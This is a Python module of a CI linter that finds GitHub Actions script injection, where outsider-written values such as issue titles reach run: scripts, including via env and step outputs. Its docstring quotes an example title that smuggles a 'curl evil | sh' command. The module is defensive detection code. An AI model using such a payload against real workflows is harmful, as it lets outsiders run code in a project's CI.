"""Where a GitHub step pastes a value someone outside the team writes into code: `Step.injections`.

GitHub replaces each `${{ }}` of a `run:` script (and of every input) with its value before the
shell, or the action, reads the text: a title `"; curl evil | sh; "` becomes part of the script.
The values outsiders write are the table of `github_untrusted_contexts.py`; the places that are
code are `run:` and the inputs of `SCRIPT_INPUTS` (`actions/github-script`'s `script`, ...).

Followed one step, where the value is certain:
- `${{ env.X }}` where the step's `env:` (workflow < job < step) sets X from such a value;
- `${{ steps.S.outputs.O }}` where an earlier script step `S` of the same job (or composite
  action) writes `O=<value>` to `$GITHUB_OUTPUT` (or `::set-output name=O::`) and the value holds
  such a template, or a `$VAR` its `env:` sets from one.
A step's `if:` on `github.event_name` takes out the events it rules out. An expression counts
only where the value can be its result: `github.event.issue.title == 'x'`
or `contains(github.event.issue.body, 'y')` paste `true` or `false`; `a || b`, `format()`,
`join()`, `toJSON()` paste their operands. An expression cilint cannot read is left out.

Not followed (a note in the rule's documentation): `inputs.*` of a composite action or a called
workflow (their callers decide), outputs of actions (`tj-actions/branch-names`), values written
to `$GITHUB_ENV`, outputs of other jobs (`needs.*.outputs`).
"""

from __future__ import annotations

from collections.abc import Iterator
from functools import lru_cache

from . import github_expr as expr
from .github_untrusted_contexts import CALLER_EVENT, SCRIPT_INPUTS, Controllable, controllable, within
from .lazyre import lazy
from .model import Injection, InjectionSink, Span, Step, Text

# A script line writing a step output: `echo "name=value" >> "$GITHUB_OUTPUT"`, `::set-output name=x::`
_OUTPUT_WRITE = lazy(r"""(?:^|[\s"'])(?P<name>[A-Za-z_][A-Za-z0-9_-]*)=(?P<value>.*?)["']?\s*>>\s*"?"""
                           r"""\$\{?GITHUB_OUTPUT""")
_SET_OUTPUT = lazy(r"::set-output\s+name=(?P<name>[A-Za-z_][A-Za-z0-9_-]*)::(?P<value>.*)")
_SHELL_VAR = lazy(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_FLOWING_CALLS = frozenset({"format", "join", "tojson", "fromjson"})


def read_injections(steps: list[Step]) -> None:
    """Fill `Step.injections` of a job's (or a composite action's) steps, in order."""
    outputs: dict[tuple[str | None, str], dict[str, tuple[Controllable, Span]]] = {}
    for step in steps:
        found: list[Injection] = []
        if step.run is not None:
            found.extend(_pasted(step, step.run, "run", None, outputs))
        inputs = SCRIPT_INPUTS.get(step.uses.name.lower(), ()) if step.uses is not None else ()
        if inputs:  # (most actions take no script)
            assert step.uses is not None
            for name, text in step.inputs.items():
                if name.lower() in inputs:
                    sink: InjectionSink = "github-script" if step.uses.name.lower() == "actions/github-script" \
                        else "action-input"
                    found.extend(_pasted(step, text, sink, name, outputs))
        step.injections = found
        if step.id is not None and step.run is not None:
            written = _outputs_written(step)
            if written:
                outputs[(step.origin, step.id.lower())] = written


def _pasted(step: Step, text: Text, sink: InjectionSink, input_name: str | None,
            outputs: dict[tuple[str | None, str], dict[str, tuple[Controllable, Span]]]) -> Iterator[Injection]:
    if "${{" not in text.value:
        return
    for match in expr.EXPRESSION.finditer(text.value):
        span = _span_of(text, match.start(), match.end())
        for path, row in _flowing_rows(match.group(1)):
            if row is not None:
                yield _injection(step, match.group(0), span, row, sink, input_name)
                continue
            via = _via(step, path, outputs)
            if via is not None:
                name, (row, where) = via
                yield _injection(step, match.group(0), span, row, sink, input_name, name, where)


def _injection(step: Step, written: str, span: Span, row: Controllable, sink: InjectionSink,
               input_name: str | None, via: str | None = None, via_span: Span | None = None) -> Injection:
    events = [event for event in row.events if _may_run(step, event)]
    return Injection(written, span, row.path, row.what, sink, input_name, via, via_span,
                     (*events, CALLER_EVENT), row.insider_when_privileged)


def _may_run(step: Step, event: str) -> bool:
    """Whether the step's `if:` can hold on `event` (`if: github.event_name == 'push'` cannot on
    `issues`). A called workflow sees its caller's event: `workflow_call` is always kept."""
    if step.condition is None:
        return True
    return expr.condition_value(step.condition.value, {"github": {"event_name": event}}) is not False


def _via(step: Step, path: list[str], outputs: dict[tuple[str | None, str], dict[str, tuple[Controllable, Span]]]
         ) -> tuple[str, tuple[Controllable, Span]] | None:
    parts = [part.lower() for part in path]
    if len(parts) == 2 and parts[0] == "env":
        var = next((v for name, v in step.env.items() if name.lower() == parts[1]), None)
        if var is not None and var.reference:
            row = _reads(var.written)
            if row is not None:
                return f"env.{path[1]}", (row, var.value.span)
    if len(parts) == 4 and parts[0] == "steps" and parts[2] == "outputs":
        written = outputs.get((step.origin, parts[1]), {}).get(parts[3])
        if written is not None:
            return f"steps.{path[1]}.outputs.{path[3]}", written
    return None


def _reads(value: str) -> Controllable | None:
    """The controllable value a text pastes, if it pastes one (its first)."""
    for match in expr.EXPRESSION.finditer(value):
        for _, row in _flowing_rows(match.group(1)):
            if row is not None:
                return row
    return None


def _outputs_written(step: Step) -> dict[str, tuple[Controllable, Span]]:
    """The outputs a script step writes from a controllable value: `name=${{ ... }}` or
    `name=$VAR` (VAR set by its `env:` from one), to `$GITHUB_OUTPUT`."""
    assert step.run is not None
    out: dict[str, tuple[Controllable, Span]] = {}
    for index, line in enumerate(step.run.value.split("\n")):
        match = _OUTPUT_WRITE.search(line) if "GITHUB_OUTPUT" in line else _SET_OUTPUT.search(line)
        if match is None:
            continue
        value = match.group("value")
        row = _reads(value)
        if row is None:
            for var in _SHELL_VAR.findall(value):
                env = step.env.get(var)
                if env is not None and env.reference:
                    row = _reads(env.written)
                    if row is not None:
                        break
        if row is not None:
            out[match.group("name").lower()] = (row, step.run.line_span(index))
    return out


@lru_cache(maxsize=4096)
def _flowing_rows(expression: str) -> tuple[tuple[list[str], Controllable | None], ...]:
    """`_flowing_paths`, each with the row of `CONTROLLABLE` it reads (None: none, or one only an
    earlier step or `env:` can make it read). Memoised: a repository's expressions repeat (every
    `${{ matrix.os }}`); the lists are not to be changed."""
    return tuple((path, controllable(path) or (within(path) if whole else None))
                 for path, whole in _flowing_paths(expression))


def _flowing_paths(expression: str) -> list[tuple[list[str], bool]]:
    """The context paths whose value can be the expression's result (not those only compared,
    negated or tested), each with whether `toJSON()` pastes it whole (an object's text then
    holds its fields); [] when the expression cannot be read."""
    try:
        node = expr.parse(expression.strip())
    except (ValueError, IndexError, RecursionError):
        return []
    out: list[tuple[list[str], bool]] = []
    stack: list[tuple[expr.Node, bool]] = [(node, False)]
    while stack:
        current, whole = stack.pop()
        kind = current[0]
        if kind == "ctx":
            out.append(([str(part) for part in current[1]], whole))
        elif kind == "or":  # either side can be the result
            stack.extend(((current[2], whole), (current[1], whole)))
        elif kind == "and":  # the left side only when it is falsy (empty): the right one
            stack.append((current[2], whole))
        elif kind == "call" and current[1] in _FLOWING_CALLS:
            stack.extend((arg, whole or current[1] == "tojson") for arg in reversed(current[2]))
    return out


def _span_of(text: Text, start: int, end: int) -> Span:
    """Where characters `start`..`end` of a value stand (its line, for a block scalar)."""
    line = text.value.count("\n", 0, start)
    line_start = text.value.rfind("\n", 0, start) + 1
    line_end = text.value.find("\n", start)
    line_end = len(text.value) if line_end == -1 else line_end
    return text.line_span(line, start - line_start, min(end, line_end) - line_start)
